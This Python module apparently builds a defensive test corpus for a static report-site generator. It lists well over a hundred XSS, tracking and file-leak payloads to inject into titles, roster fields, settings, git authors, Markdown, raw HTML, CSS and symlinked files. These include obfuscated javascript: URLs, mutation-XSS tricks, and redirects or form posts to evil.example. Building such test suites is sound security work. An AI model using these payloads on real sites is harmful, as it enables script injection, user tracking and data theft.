"""The hostile corpus for the site: each case names the part of a report it writes and the payload.

A case is data: where it goes (`where`), what it writes (`payload`), and for files in `web/` the
path. Payloads mark themselves when they run, with the case's token (`pwn` and three digits):

    $P   window.__pwned='TOKEN'          (a script statement)
    $Q   window.__pwned=/TOKEN/.source   (the same with no quote or space, for unquoted attributes)
    {T}  the token                        (in URLs: https://tracker.example/{T}.png)
    {A}  the id of the case's own section (for links that must resolve, so the check has no other reason to fail)

`plan()` decides, for a given sample report, which file each case writes: body cases become a
section appended to one of the sample's documents (cases that may swallow what follows them go
last, one per document, never in the roster annex, which hosts the cases with notes since a
page's notes follow its last section; cases that act on the whole page get a chapter of their
own); front-matter,
owner and git-author cases take turns over the documents; `report.yml`, the home page and set
titles have one value per build, so their variants are spread over builds by `slot`.
`apply()` writes a case into a report folder and says which lines it wrote.
"""

from __future__ import annotations

import json
import os
import re
from dataclasses import dataclass, field, replace
from pathlib import Path

P = "window.__pwned='{T}'"
Q = "window.__pwned=/{T}/.source"
REMOTE = "https://tracker.example/{T}"

# Where a case writes.
BODY = "body"  # a section of a document's Markdown body
TITLE, SUMMARY = "fm-title", "fm-summary"  # a front-matter field of a document
ROSTER_NAME, ROSTER_AFFILIATION = "roster-name", "roster-affiliation"  # a new member, owner of a document
SET_TITLE, REPORT_TITLE, REPORT_SUBTITLE = "set-title", "report-title", "report-subtitle"  # report.yml
REPOSITORY = "report-repository"  # report.yml's `repository`, the base of every page's edit link
FILE_NAME = "file-name"  # a new chapter whose file name is the payload (it reaches URLs and links)
IMAGE_FILE = "image-file"  # a new file under images/, which the site copies as an asset
IMAGE_LINK = "image-symlink"  # a link under images/ to a file outside the repository
GIT_AUTHOR = "git-author"  # the author of the commit that last changed a document
WEB_INDEX = "web-index"  # appended to web/index.md, the home page
WEB_FILE = "web-file"  # a new file under web/
WEB_CSS = "web-css"  # added to web/assets/report.css, the site's own stylesheet
WEB_LINK = "web-symlink"  # a link under web/ to a file outside the repository
WEB_LINK_DIR = "web-symlink-dir"  # a link under web/ to a folder outside the repository
WEB_LINK_DANGLING = "web-symlink-dangling"  # a link under web/ to nothing
# Cases whose file (its name, its kind, where it links) is the payload: no plain version exists.
FILE_KINDS = {WEB_FILE, WEB_LINK, WEB_LINK_DIR, WEB_LINK_DANGLING, FILE_NAME, IMAGE_FILE, IMAGE_LINK}


@dataclass(frozen=True)
class Case:
    name: str
    category: str
    where: str
    payload: str
    path: str = ""  # for web/ and images/ cases: the path under that folder
    greedy: bool = False  # may swallow or re-parent what follows it: last in its document
    alone: bool = False  # acts on the whole page (navigates, rebases URLs): a chapter of its own
    token: str = ""

    @property
    def anchor(self) -> str:
        """The id of the section a body case is written in."""
        return f"case-{self.token[3:]}"

    def text(self) -> str:
        """The payload with its markers filled in."""
        return self.payload.replace("$P", P).replace("$Q", Q).replace("{T}", self.token).replace("{A}", self.anchor)

    @property
    def secret(self) -> bytes:
        """What the file outside the repository holds, for web/ links: must never reach the site."""
        return f"hs-secret-{self.token}-not-for-publication".encode()


def _c(name: str, category: str, where: str, payload: str, **extra) -> Case:
    return Case(name, category, where, payload, **extra)


FRONT_MATTER = [
    _c("title-img-onerror", "front matter", TITLE, '<img src=x onerror="$P">'),
    _c("title-close-title-script", "front matter", TITLE, "</title><script>$P</script>"),
    _c("title-entities", "front matter", TITLE, "&lt;img src=x onerror=$Q&gt;"),
    _c("title-numeric-entities", "front matter", TITLE, "&#60;svg onload=$Q&#62;"),
    _c("title-attribute-breakout", "front matter", TITLE, 'Plan" onmouseover="$P" data-x="'),
    _c("title-close-link", "front matter", TITLE, 'Plan</a><img src=x onerror="$P"><a>'),
    _c("title-markdown-link", "front matter", TITLE, "Plan [more](javascript:void($Q))"),
    _c("title-attr-list", "front matter", TITLE, '*Plan*{onmouseover="$P"}'),
    _c("title-newline-html", "front matter", TITLE, 'Plan\n\n<img src=x onerror="$P">\n\nmore'),
    _c("title-newline-attr-block", "front matter", TITLE, 'Plan\n{: onmouseover="$P" }'),
    _c("title-link-breakout", "front matter", TITLE, "Plan](javascript:void($Q)) [x"),
    _c("title-svg-unquoted", "front matter", TITLE, "<svg/onload=$Q>"),
    _c("summary-img-onerror", "front matter", SUMMARY, '<img src=x onerror="$P">'),
    _c("summary-close-meta", "front matter", SUMMARY, '"><script>$P</script><meta x="'),
    _c("summary-entities", "front matter", SUMMARY, "&lt;script&gt;$P&lt;/script&gt;"),
    _c("summary-newline-html", "front matter", SUMMARY, 'One line\n\n<img src=x onerror="$P">'),
]

ROSTER = [
    _c("name-img-onerror", "roster", ROSTER_NAME, '<img src=x onerror="$P">'),
    _c("name-markdown-link", "roster", ROSTER_NAME, "Eve [Example](javascript:void($Q))"),
    _c("name-newline-script", "roster", ROSTER_NAME, "Eve Example\n\n<script>$P</script>"),
    _c("name-attr-list", "roster", ROSTER_NAME, '**Eve**{onmouseover="$P"}'),
    _c("name-entities", "roster", ROSTER_NAME, "&lt;svg onload=$Q&gt;"),
    _c("name-remote-image", "roster", ROSTER_NAME, f"Eve ![photo]({REMOTE}.png)"),
    _c("name-escaped-pipe", "roster", ROSTER_NAME, 'Eve \\| <img src=x onerror="$P"> \\'),
    _c("affiliation-img-onerror", "roster", ROSTER_AFFILIATION, '<img src=x onerror="$P">'),
    _c("affiliation-link", "roster", ROSTER_AFFILIATION, "[Example Corp](javascript:void($Q))"),
    _c("affiliation-close-table", "roster", ROSTER_AFFILIATION, "</td></tr></table><script>$P</script>"),
    _c(
        "affiliation-remote-style",
        "roster",
        ROSTER_AFFILIATION,
        f'<span style="background:url({REMOTE}.png)">Example Corp</span>',
    ),
]

SETTINGS = [
    _c("set-img-onerror", "report.yml", SET_TITLE, '<img src=x onerror="$P">'),
    _c("set-heading-attr-list", "report.yml", SET_TITLE, 'Trust {onclick="$P" tabindex="0"}'),
    _c("set-entities", "report.yml", SET_TITLE, "&lt;img src=x onerror=$Q&gt;"),
    _c("set-toc-label", "report.yml", SET_TITLE, 'Trust {data-toc-label="<img src=x onerror=$Q>"}'),
    _c("set-markdown-link", "report.yml", SET_TITLE, "Trust [more](javascript:void($Q))"),
    _c("set-newline-script", "report.yml", SET_TITLE, "Trust\n\n<script>$P</script>"),
    _c("set-close-heading", "report.yml", SET_TITLE, 'Trust</h2><img src=x onerror="$P">'),
    _c("report-title-script", "report.yml", REPORT_TITLE, "Digital <script>$P</script> Interdependence"),
    _c("report-title-close-title", "report.yml", REPORT_TITLE, '</title><img src=x onerror="$P">'),
    _c("report-subtitle-img", "report.yml", REPORT_SUBTITLE, '<img src=x onerror="$P">'),
    _c("report-subtitle-link", "report.yml", REPORT_SUBTITLE, "Report [of](javascript:void($Q))"),
    _c("repository-breakout", "report.yml", REPOSITORY, 'https://example.org/x" onmouseover="$P" data-x="'),
]

# git drops '<', '>' and newlines from names, and trims punctuation at both ends; Markdown is left.
GIT = [
    _c("author-markdown-link", "git author", GIT_AUTHOR, "Eve [Example](javascript:void($Q)) Jr"),
    _c("author-attr-list", "git author", GIT_AUTHOR, 'Eve **Example**{onmouseover="$P"} Jr'),
    _c("author-entities", "git author", GIT_AUTHOR, "Eve &lt;img src=x onerror=$Q&gt; Jr"),
    _c("author-remote-image", "git author", GIT_AUTHOR, f"Eve ![x]({REMOTE}.png) Jr"),
    _c("author-entity-scheme", "git author", GIT_AUTHOR, "Eve [Example](&#106;avascript:void($Q)) Jr"),
    _c("author-link-attr", "git author", GIT_AUTHOR, 'Eve [Example](https://example.org){onclick="$P"} Jr'),
]

ATTR_LIST = [
    _c("attr-image-onload", "attr_list", BODY, '![A figure](../images/three-tracks.png){onload="$P"}'),
    _c("attr-emphasis-onmouseover", "attr_list", BODY, 'Some *text*{onmouseover="$P"} here.'),
    _c("attr-link-onclick", "attr_list", BODY, 'A [link](#{A}){onclick="$P"} here.'),
    _c("attr-heading-onclick", "attr_list", BODY, '### Sub-heading {onclick="$P" tabindex="0"}'),
    _c(
        "attr-paragraph-style-remote",
        "attr_list",
        BODY,
        f'A paragraph.\n{{: style="background-image:url({REMOTE}.png)" }}',
    ),
    _c("attr-value-quotes", "attr_list", BODY, "Some *text*{title='a\" onmouseover=\"$P'} here."),
    _c(
        "attr-paragraph-autofocus",
        "attr_list",
        BODY,
        'Focus lands here.\n{: onfocus="$P" tabindex="0" autofocus="autofocus" }',
    ),
    _c("attr-link-href-override", "attr_list", BODY, 'A [link](#{A}){href="javascript:void($P)"} here.'),
    _c("attr-image-src-override", "attr_list", BODY, f'![A figure](../images/three-tracks.png){{src="{REMOTE}.png"}}'),
    _c("attr-image-srcset", "attr_list", BODY, f'![A figure](../images/three-tracks.png){{srcset="{REMOTE}.png 2x"}}'),
    _c("attr-list-item", "attr_list", BODY, '- first item\n- second item {: onmouseover="$P" }'),
    _c("attr-uppercase-name", "attr_list", BODY, 'Some *text*{ONMOUSEOVER="$P"} here.'),
    _c("attr-unquoted-value", "attr_list", BODY, "Some *text*{onmouseover=$Q} here."),
    _c("attr-table-cell", "attr_list", BODY, '| a | b |\n|---|---|\n| *c*{onmouseover="$P"} | d |'),
    _c("attr-footnote", "attr_list", BODY, 'A claim.[^{T}]\n\n[^{T}]: A *note*{onmouseover="$P"}.'),
    _c(
        "attr-protocol-relative-style",
        "attr_list",
        BODY,
        'Some *text*{style="background:url(//tracker.example/{T}.png)"} here.',
    ),
    _c("attr-pointerenter-id", "attr_list", BODY, 'A paragraph.\n{: #{T}-p onpointerenter="$P" }'),
    _c("attr-heading-id-breakout", "attr_list", BODY, '### Heading {#{T}" onmouseover="$P}'),
    _c("attr-entity-in-handler", "attr_list", BODY, "Some *text*{onmouseover=\"&#119;indow.__pwned='{T}'\"} here."),
    _c("attr-image-alt-breakout", "attr_list", BODY, '![a" onerror="$P](../images/three-tracks.png)'),
    _c("attr-link-title-breakout", "attr_list", BODY, 'A [link](#{A} "a\\" onmouseover=\\"$P") here.'),
]

# The report's own cross-references: the text a writer gives a reference is written into a link.
XREF = [
    _c("xref-text-html", "cross-references", BODY, 'See [[rec:help-desks|<img src=x onerror="$P">]].'),
    _c(
        "xref-text-link-breakout", "cross-references", BODY, "See [[rec:help-desks|help](javascript:void($Q)) [desks]]."
    ),
    _c("xref-attr-list", "cross-references", BODY, 'See [[rec:help-desks]]{onmouseover="$P"}.'),
    _c("xref-text-attr-list", "cross-references", BODY, 'See [[rec:help-desks|*desks*{onmouseover="$P"}]].'),
    _c("xref-in-heading", "cross-references", BODY, "### About [[rec:help-desks|&lt;img src=x onerror=$Q&gt;]]"),
]

RAW_HTML = [
    _c("html-href-tab-entity", "raw HTML", BODY, '<a href="java&#x09;script:void($P)">x</a>'),
    _c("html-href-decimal-entity", "raw HTML", BODY, '<a href="&#106;avascript:void($P)">x</a>'),
    _c(
        "html-href-all-hex",
        "raw HTML",
        BODY,
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;void($P)">x</a>',
    ),
    _c("html-href-named-entities", "raw HTML", BODY, '<a href="jav&NewLine;ascript&colon;void($P)">x</a>'),
    _c(
        "html-href-no-semicolon",
        "raw HTML",
        BODY,
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
        '&#0000116&#0000058void($P)">x</a>',
    ),
    _c("html-href-leading-space", "raw HTML", BODY, '<a href=" javascript:void($P)">x</a>'),
    _c("html-href-control-char", "raw HTML", BODY, '<a href="\x01javascript:void($P)">x</a>'),
    _c("html-href-mixed-case", "raw HTML", BODY, '<a href="JaVaScRiPt:void($P)">x</a>'),
    _c("html-href-raw-newline", "raw HTML", BODY, '<a href="java\nscript:void($P)">x</a>'),
    _c("html-href-raw-tab", "raw HTML", BODY, '<a href="java\tscript:void($P)">x</a>'),
    _c(
        "html-href-data",
        "raw HTML",
        BODY,
        '<a href="data:text/html,%3Cscript%3Eopener.__pwned=%27{T}%27%3C/script%3E">x</a>',
    ),
    _c("html-href-vbscript", "raw HTML", BODY, "<a href=\"vbscript:msgbox('{T}')\">x</a>"),
    _c(
        "html-noscript-mutation",
        "raw HTML",
        BODY,
        '<noscript><p title="</noscript><img src=x onerror=$Q>"></noscript>',
        greedy=True,
    ),
    _c("html-style-content", "raw HTML", BODY, "<style><img src=x onerror=$Q></style>", greedy=True),
    _c("html-style-import", "raw HTML", BODY, f"<style>@import url({REMOTE}.css);</style>", greedy=True),
    _c("html-title-content", "raw HTML", BODY, "<title><img src=x onerror=$Q></title>", greedy=True),
    _c(
        "html-textarea-mutation",
        "raw HTML",
        BODY,
        '<textarea><p title="</textarea><img src=x onerror=$Q>"></textarea>',
        greedy=True,
    ),
    _c("html-template-content", "raw HTML", BODY, "<template><img src=x onerror=$Q></template>", greedy=True),
    _c("html-xmp-content", "raw HTML", BODY, "<xmp><img src=x onerror=$Q></xmp>", greedy=True),
    _c("html-svg-script", "raw HTML", BODY, "<svg><script>$P</script></svg>", greedy=True),
    _c(
        "html-svg-animate-onbegin",
        "raw HTML",
        BODY,
        '<svg><animate onbegin="$P" attributeName="x" dur="1s"/></svg>',
        greedy=True,
    ),
    _c("html-svg-onload", "raw HTML", BODY, '<svg onload="$P"></svg>', greedy=True),
    _c(
        "html-svg-xlink-href",
        "raw HTML",
        BODY,
        '<svg><a xlink:href="javascript:void($P)"><text x="0" y="15">x</text></a></svg>',
        greedy=True,
    ),
    _c(
        "html-svg-set-href",
        "raw HTML",
        BODY,
        '<svg><a><set attributeName="href" to="javascript:void($P)"/><text y="15">x</text></a></svg>',
        greedy=True,
    ),
    _c(
        "html-svg-style-import",
        "raw HTML",
        BODY,
        "<svg><style>@import url(//tracker.example/{T}.css);</style></svg>",
        greedy=True,
    ),
    _c(
        "html-math-mglyph-style",
        "raw HTML",
        BODY,
        "<math><mtext><table><mglyph><style><img src=x onerror=$Q></style></mglyph></table></mtext></math>",
        greedy=True,
    ),
    _c(
        "html-math-xlink-href",
        "raw HTML",
        BODY,
        '<math><mi xlink:href="javascript:void($P)">x</mi></math>',
        greedy=True,
    ),
    _c("html-comment-abrupt", "raw HTML", BODY, '<!--><img src=x onerror="$P">-->', greedy=True),
    _c("html-comment-bang-close", "raw HTML", BODY, '<!-- a --!><img src=x onerror="$P"> -->', greedy=True),
    _c("html-comment-unclosed", "raw HTML", BODY, '<!-- a note\n\n<img src=x onerror="$P">', greedy=True),
    _c("html-img-split-lines", "raw HTML", BODY, '<img src=x\nonerror="$P">'),
    _c("html-img-mixed-case", "raw HTML", BODY, '<IMG SRC=x OnErRoR="$P">'),
    _c("html-img-unquoted", "raw HTML", BODY, "<img src=x onerror=$Q>"),
    _c("html-img-slashes", "raw HTML", BODY, "<img/src=x/onerror=$Q>"),
    _c("html-img-entity-handler", "raw HTML", BODY, "<img src=x onerror=\"&#x77;indow.__pwned='{T}'\">"),
    _c("html-details-ontoggle", "raw HTML", BODY, '<details open ontoggle="$P"><summary>More</summary>Text.</details>'),
    _c(
        "html-object-data",
        "raw HTML",
        BODY,
        '<object data="data:text/html,%3Cscript%3Eparent.__pwned=%27{T}%27%3C/script%3E"></object>',
    ),
    _c("html-embed-remote", "raw HTML", BODY, f'<embed src="{REMOTE}.swf">'),
    _c(
        "html-meta-refresh",
        "raw HTML",
        BODY,
        '<meta http-equiv="refresh" content="0;url=https://evil.example/{T}">',
        alone=True,
    ),
    _c("html-base-href", "raw HTML", BODY, '<base href="https://evil.example/{T}/">', alone=True),
    _c(
        "html-form-action",
        "raw HTML",
        BODY,
        '<form action="https://evil.example/{T}"><input name="q"><button>Send</button></form>',
    ),
    _c(
        "html-iframe-srcdoc",
        "raw HTML",
        BODY,
        '<iframe srcdoc="<img src=x onerror=parent.__pwned=/{T}/.source>"></iframe>',
    ),
    _c("html-link-import", "raw HTML", BODY, '<link rel="import" href="https://evil.example/{T}.html">'),
    _c("html-link-stylesheet", "raw HTML", BODY, f'<link rel="stylesheet" href="{REMOTE}.css">'),
    _c("html-style-attribute", "raw HTML", BODY, f'<p style="background:url({REMOTE}.png)">Styled.</p>'),
    _c(
        "html-style-attribute-entities",
        "raw HTML",
        BODY,
        f'<p style="background-image: url(&quot;{REMOTE}.png&quot;)">Styled.</p>',
    ),
    _c("html-img-protocol-relative", "raw HTML", BODY, '<img src="//tracker.example/{T}.png" alt="pixel">'),
    _c("html-img-backslashes", "raw HTML", BODY, '<img src="\\\\tracker.example\\{T}.png" alt="pixel">'),
    _c("html-img-srcset", "raw HTML", BODY, f'<img srcset="{REMOTE}.png 1x" alt="pixel">'),
    _c("html-video-poster", "raw HTML", BODY, f'<video poster="{REMOTE}.png"></video>'),
    _c("html-body-onload", "raw HTML", BODY, 'Text <body onload="$P"> more.'),
    _c("html-html-onmouseover", "raw HTML", BODY, 'Text <html onmouseover="$P"> more.'),
    _c("html-input-autofocus", "raw HTML", BODY, '<input autofocus onfocus="$P">'),
    _c("html-source-onerror", "raw HTML", BODY, '<video><source onerror="$P"></video>'),
    _c("html-marquee-onstart", "raw HTML", BODY, '<marquee onstart="$P">News</marquee>'),
    _c("html-anchor-onclick", "raw HTML", BODY, '<a href="#{A}" onclick="$P">x</a>'),
    _c("html-script-remote", "raw HTML", BODY, '<script src="//evil.example/{T}.js"></script>'),
    _c("html-script-inline", "raw HTML", BODY, "<script>$P</script>"),
    _c(
        "html-button-formaction",
        "raw HTML",
        BODY,
        '<form><button formaction="javascript:void($P)">Send</button></form>',
    ),
    _c("html-table-cell", "raw HTML", BODY, '| a | b |\n|---|---|\n| <img src=x onerror="$P"> | d |'),
    _c("html-footnote", "raw HTML", BODY, 'A claim.[^{T}]\n\n[^{T}]: <img src=x onerror="$P">'),
    _c("html-admonition-title", "raw HTML", BODY, '!!! note "<img src=x onerror=$Q>"\n    Body of the note.'),
    _c("html-in-link-text", "raw HTML", BODY, '[<img src=x onerror="$P">](#{A})'),
    _c("html-smarty-guillemets", "raw HTML", BODY, "<<img src=x onerror=$Q>>"),
    _c("html-alert-entity-unquoted", "raw HTML", BODY, "<img src=x onerror=&#97;lert(/{T}/.source)>"),
    _c("html-href-hex-colon", "raw HTML", BODY, '<a href="javascript&#x3A;void($P)">x</a>'),
    _c("html-img-backtick-call", "raw HTML", BODY, "<img src=x onerror=alert`{T}`>"),
]

LINKS = [
    _c("link-reference", "links", BODY, "A [link][{T}].\n\n[{T}]: javascript:void($P)"),
    _c("link-reference-case", "links", BODY, "A [link][{T}].\n\n[{T}]: JaVaScRiPt:void($P)"),
    _c("link-reference-angle-title", "links", BODY, 'A [link][{T}].\n\n[{T}]: <javascript:void($P)> "A title"'),
    _c("link-reference-next-line", "links", BODY, "A [link][{T}].\n\n[{T}]:\n    javascript:void($P)"),
    _c("link-reference-collapsed", "links", BODY, "A [{T} link][].\n\n[{T} link]: javascript:void($P)"),
    _c("link-reference-shortcut", "links", BODY, "A [{T}x].\n\n[{T}x]: javascript:void($P)"),
    _c("link-reference-in-list", "links", BODY, "- An [item][{T}].\n\n    [{T}]: javascript:void($P)"),
    _c("link-reference-title-quotes", "links", BODY, "A [link][{T}].\n\n[{T}]: #{A} 'a\" onmouseover=\"$P'"),
    _c("link-in-footnote", "links", BODY, "A claim.[^{T}]\n\n[^{T}]: See [this](javascript:void($Q))."),
    _c("link-text-spans-lines", "links", BODY, "A [link that\nspans lines](javascript:void($Q))."),
    _c("link-nested-brackets", "links", BODY, "A [a [b [c]]](javascript:void($Q))."),
    # A quote in an inline link's target starts its title: the href keeps a truncated script.
    _c("link-quote-starts-title", "links", BODY, "A [link](javascript:void($P))."),
    _c("link-nested-parentheses", "links", BODY, "A [link](javascript:void((window.__pwned=('{T}'))))."),
    _c("link-autolink", "links", BODY, "An autolink <javascript:void($Q)>."),
    _c("link-image-src", "links", BODY, "![A figure](javascript:void($Q))"),
    _c("link-entity-colon", "links", BODY, "A [link](javascript&#58;void($Q))."),
    _c("link-named-entity-colon", "links", BODY, "A [link](javascript&colon;void($Q))."),
    _c("link-entity-letter", "links", BODY, "A [link](java&#115;cript:void($Q))."),
    _c("link-angle-target", "links", BODY, "A [link](<javascript:void($Q)>)."),
    _c("link-leading-space", "links", BODY, "A [link]( javascript:void($Q))."),
    _c("link-target-next-line", "links", BODY, "A [link](\njavascript:void($Q))."),
    _c("link-data-url", "links", BODY, "A [link](data:text/html,%3Cscript%3Eopener.__pwned=%27{T}%27%3C/script%3E)."),
    _c("link-vbscript", "links", BODY, "A [link](vbscript:msgbox(%22{T}%22))."),
    _c("link-uppercase", "links", BODY, "A [link](JAVASCRIPT:void($Q))."),
    _c("link-with-title", "links", BODY, 'A [link](javascript:void($Q) "A title").'),
    _c("link-comment-newline", "links", BODY, "A [link](javascript://x%0Avoid($P))."),
    _c(
        "link-data-image",
        "links",
        BODY,
        "![A figure](data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22{T}%22/%3E)",
    ),
]

HEADINGS = [
    _c("heading-entities", "headings and TOC", BODY, "### &lt;img src=x onerror=$Q&gt;"),
    _c("heading-numeric-entities", "headings and TOC", BODY, "### &#60;img src=x onerror=$Q&#62;"),
    _c("heading-toc-label", "headings and TOC", BODY, '### Heading {data-toc-label="<img src=x onerror=$Q>"}'),
    _c(
        "heading-toc-label-entities",
        "headings and TOC",
        BODY,
        '### Heading {data-toc-label="&lt;img src=x onerror=$Q&gt;"}',
    ),
    _c("heading-code-span", "headings and TOC", BODY, "### Code `<img src=x onerror=$Q>`"),
    _c("heading-raw-html", "headings and TOC", BODY, '### Heading <img src=x onerror="$P">'),
    _c("heading-setext", "headings and TOC", BODY, 'Heading <img src=x onerror="$P">\n-------'),
    _c("heading-svg", "headings and TOC", BODY, "### <svg onload=$Q>", greedy=True),
    _c("heading-entity-attribute-breakout", "headings and TOC", BODY, "### a&quot; onmouseover=&quot;$P"),
]

REMOTE_RESOURCES = [
    _c("remote-image", "remote resources", BODY, f"![A tracker]({REMOTE}.png)"),
    _c("remote-image-protocol-relative", "remote resources", BODY, "![A tracker](//tracker.example/{T}.png)"),
    _c("remote-image-http-title", "remote resources", BODY, '![A tracker](http://tracker.example/{T}.png "t")'),
    _c("remote-image-in-link", "remote resources", BODY, f"[![A tracker]({REMOTE}.png)](#{{A}})"),
    _c("remote-image-reference", "remote resources", BODY, f"![A tracker][{{T}}]\n\n[{{T}}]: {REMOTE}.png"),
]

# Files a report adds besides its text: a chapter's file name, figures under images/.
FILES = [
    _c("file-name-attribute-breakout", "file names", FILE_NAME, 'x" onmouseover="$P" y="'),
    _c("file-name-tag", "file names", FILE_NAME, '<img src=x onerror="$P">'),
    _c(
        "images-svg-script",
        "images",
        IMAGE_FILE,
        '<svg xmlns="http://www.w3.org/2000/svg" onload="$P"><script>$P</script></svg>',
        path="figure-{T}.svg",
    ),
    _c("images-html-page", "images", IMAGE_FILE, "<script>$P</script>", path="figure-{T}.html"),
    _c("images-symlink", "images", IMAGE_LINK, "", path="leak-{T}.png"),
]

WEB = [
    _c("home-script-and-img", "web", WEB_INDEX, '<script>$P</script>\n\n<img src=x onerror="$P">'),
    _c(
        "home-markdown", "web", WEB_INDEX, 'See [this][{T}] and *that*{onmouseover="$P"}.\n\n[{T}]: javascript:void($P)'
    ),
    _c("web-html-page", "web", WEB_FILE, "<!doctype html><title>x</title><script>$P</script>", path="evil.html"),
    _c("web-htm-page", "web", WEB_FILE, '<img src=x onerror="$P">', path="notes/evil.htm"),
    _c(
        "web-xhtml-page",
        "web",
        WEB_FILE,
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>$P</script></body></html>',
        path="evil.xhtml",
    ),
    _c(
        "web-svg",
        "web",
        WEB_FILE,
        '<svg xmlns="http://www.w3.org/2000/svg" onload="$P"><script>$P</script></svg>',
        path="x.svg",
    ),
    _c("web-js", "web", WEB_FILE, "$P;", path="assets/x.js"),
    _c("web-js-in-theme-folder", "web", WEB_FILE, "$P;", path="assets/javascripts/extra.js"),
    _c("web-css-stray-remote", "web", WEB_FILE, f"body {{ background: url({REMOTE}.png); }}", path="assets/stray.css"),
    _c("web-css-import", "web", WEB_CSS, f"@import url({REMOTE}.css);"),
    _c("web-css-background", "web", WEB_CSS, 'body { background-image: url("//tracker.example/{T}.png"); }'),
    _c(
        "web-css-font-face",
        "web",
        WEB_CSS,
        "@font-face { font-family: hs; src: url(https://tracker.example/{T}.woff2); } body { font-family: hs; }",
    ),
    _c("web-symlink-file", "web", WEB_LINK, "", path="leak.txt"),
    _c("web-symlink-css", "web", WEB_LINK, "", path="assets/leak.css"),
    _c("web-symlink-folder", "web", WEB_LINK_DIR, "", path="outside"),
    _c("web-symlink-dangling", "web", WEB_LINK_DANGLING, "", path="gone.txt"),
]

CASES: list[Case] = [
    replace(case, token=f"pwn{i:03d}")
    for i, case in enumerate(
        FRONT_MATTER
        + ROSTER
        + SETTINGS
        + GIT
        + ATTR_LIST
        + XREF
        + RAW_HTML
        + LINKS
        + HEADINGS
        + REMOTE_RESOURCES
        + FILES
        + WEB,
        1,
    )
]
BY_NAME = {case.name: case for case in CASES}
assert len(BY_NAME) == len(CASES), "case names must be unique"


# --------------------------------------------------------------------------------------------
# Where each case goes
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    file: str  # the report file the check should name, relative to the report's root
    host: str = ""  # the document a field or section belongs to (for body, fields, owners, authors)
    slot: str | None = None  # cases with the same slot cannot share a build
    first_build: int = 0  # the earliest build the case may go to
    whole_file: bool = False  # a finding on line 0 is fine (not Markdown, or the file as a whole)


@dataclass
class Written:
    file: str
    first: int  # the lines the case wrote (1-based, inclusive); 0, 0 for a file as a whole
    last: int
    whole_file: bool
    site_files: tuple[str, ...] = ()  # what the case would add to the site, relative to its root
    forbidden: tuple[str, ...] = ()  # of those, the ones the site must not publish at all
    author: str | None = None  # commit the host document as this author
    secrets: tuple[bytes, ...] = ()


SETTINGS_FILE, ROSTER_FILE, HOME, SITE_CSS = "report.yml", "roster.yml", "web/index.md", "web/assets/report.css"


def documents(root: Path) -> list[str]:
    """The sample's documents in the order cases take them: recommendations first (their titles
    and owners also reach the recommendations index), then chapters and annexes."""
    return [
        p.relative_to(root).as_posix()
        for folder in ("recommendations", "chapters", "annexes")
        for p in sorted((root / folder).glob("*.md"))
    ]


def _is_roster_annex(root: Path, doc: str) -> bool:
    return "\nroster: true\n" in (root / doc).read_text("utf-8")


def plan(root: Path, cases: list[Case] = CASES) -> dict[str, Target]:
    """Which file (and document) each case writes, and which cases cannot share a build."""
    docs = documents(root)
    tails = [d for d in docs if not _is_roster_annex(root, d)]  # the roster table follows that body
    turns: dict[str, int] = {}

    def next_of(kind: str, pool: list[str]) -> tuple[str, int]:
        n = turns.get(kind, 0)
        turns[kind] = n + 1
        return pool[n % len(pool)], n // len(pool)

    targets = {}
    for case in cases:
        w = case.where
        if w == BODY and case.alone:
            targets[case.name] = Target(f"chapters/95-alone-{case.token}.md", f"chapters/95-alone-{case.token}.md")
        elif w == BODY and "[^" in case.payload:  # notes gather at the page's end, where a greedy case ends
            doc, _ = next_of("notes", [d for d in docs if d not in tails] or docs)
            targets[case.name] = Target(doc, doc)
        elif w == BODY:
            doc, _ = next_of("greedy" if case.greedy else "body", tails if case.greedy else docs)
            targets[case.name] = Target(doc, doc, f"tail:{doc}" if case.greedy else None)
        elif w in (TITLE, SUMMARY, GIT_AUTHOR):
            doc, _ = next_of(w, docs)
            targets[case.name] = Target(doc, doc, f"{w}:{doc}", whole_file=w == GIT_AUTHOR)
        elif w in (ROSTER_NAME, ROSTER_AFFILIATION):
            doc, _ = next_of("owner", docs)
            targets[case.name] = Target(ROSTER_FILE, doc, f"owner:{doc}")
        elif w == SET_TITLE:
            number, _ = next_of(w, ["1", "2", "3", "4", "5"])
            targets[case.name] = Target(SETTINGS_FILE, number, f"set:{number}")
        elif w in (REPORT_TITLE, REPORT_SUBTITLE):
            targets[case.name] = Target(SETTINGS_FILE, "", w)
        elif w == REPOSITORY:  # every page's edit link starts with it, and ends with the file's name:
            targets[case.name] = Target(SETTINGS_FILE, "", w, first_build=1)  # kept from FILE_NAME's build
        elif w == FILE_NAME:
            name = f"chapters/96-{case.text()}.md"
            targets[case.name] = Target(name, name, whole_file=True)
        elif w in (IMAGE_FILE, IMAGE_LINK):
            targets[case.name] = Target(f"images/{case.path.replace('{T}', case.token)}", "", whole_file=True)
        elif w == WEB_INDEX:
            targets[case.name] = Target(HOME, "", w)
        elif w == WEB_CSS:
            targets[case.name] = Target(SITE_CSS, "", None, whole_file=True)
        else:  # a file or link of its own under web/
            targets[case.name] = Target(f"web/{case.path}", "", None, whole_file=True)
    return targets


# --------------------------------------------------------------------------------------------
# Writing a case into a report
# --------------------------------------------------------------------------------------------


def _lines(text: str) -> int:
    return text.count("\n") + (0 if text.endswith("\n") or not text else 1)


def _append(path: Path, addition: str) -> tuple[int, int]:
    """Append text after a blank line; the 1-based lines it occupies."""
    text = path.read_text("utf-8") if path.exists() else ""
    if text and not text.endswith("\n"):
        text += "\n"
    start = _lines(text) + 2
    path.write_text(text + "\n" + addition.rstrip("\n") + "\n", "utf-8")
    return start, start + _lines(addition) - 1


def _set_key(path: Path, key: str, value: str, indent: str = "") -> int:
    """Replace `key: ...` (at the given indent) with a JSON-quoted value, which YAML reads as the same
    string; return its line."""
    text = path.read_text("utf-8")
    pattern = re.compile(rf"^{re.escape(indent)}{re.escape(key)}:.*$", re.MULTILINE)
    match = pattern.search(text)
    assert match, f"{path} has no {indent}{key}:"
    path.write_text(text[: match.start()] + f"{indent}{key}: {json.dumps(value)}" + text[match.end() :], "utf-8")
    return text.count("\n", 0, match.start()) + 1


def section(case: Case, payload: str) -> str:
    number = case.token[3:]
    return f"## Case {number} {{#{case.anchor}}}\n\n{payload}\n\nAfter case {number}.\n"


